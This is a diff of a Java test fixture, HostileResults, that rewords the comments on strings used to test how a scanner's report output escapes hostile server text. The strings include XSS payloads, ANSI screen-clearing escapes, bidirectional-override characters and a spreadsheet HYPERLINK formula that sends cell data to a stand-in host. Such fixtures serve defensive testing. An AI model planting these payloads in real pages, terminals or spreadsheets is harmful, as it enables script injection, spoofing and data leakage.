@@ -17,30 +17,30 @@ import io.ehloscope.scan.SampleResults;
 import java.util.List;
 import java.util.Map;
 
-/** What servers would send to those who read the report. */
+/** Results with text of hostile servers. */
 public final class HostileResults {
 
-    /** A clear screen and red ink. */
+    /** ANSI sequences that clear the screen and set the colour. */
     static final String ANSI = "\u001b[2J\u001b[31mowned\u001b[0m\u009b31m";
 
-    /** A script, an attribute's end, an entity, a comment's end. */
+    /** A script, the end of an attribute, an entity, the end of a comment, a template tag. */
     public static final String HTML = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>&amp;-->{{source}}";
 
     /** NUL, backspaces, bells, line ends of all kinds. */
     static final String CONTROLS = "a\u0000b\b\b\u0007c\r\nd\u0085e\u2028f\u2029g\th";
 
-    /** Text that turns around, hides and joins. */
+    /** Bidirectional overrides, invisible and joining characters. */
     static final String BIDI = "moc.\u202eelpmaxe\u202c\u200b\u2066x\u2069\ufeff\u00ad";
 
-    /** Wide, combining, astral and half a pair. */
+    /** Wide, combining and supplementary characters, and an unpaired surrogate. */
     static final String WIDTHS = "日本語 e\u0301\u0301 \ud83d\udce7 \ud800 한국어 ＝1+1";
 
-    /** What a spreadsheet would run. */
+    /** A spreadsheet formula. */
     static final String FORMULA = "=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"click\")";
 
     private HostileResults() {}
 
-    /** A scan of them. */
+    /** Returns a scan with these results. */
     public static ScanResult scan() {
         return SampleResults.of(
                 "fleet<b>.yaml",
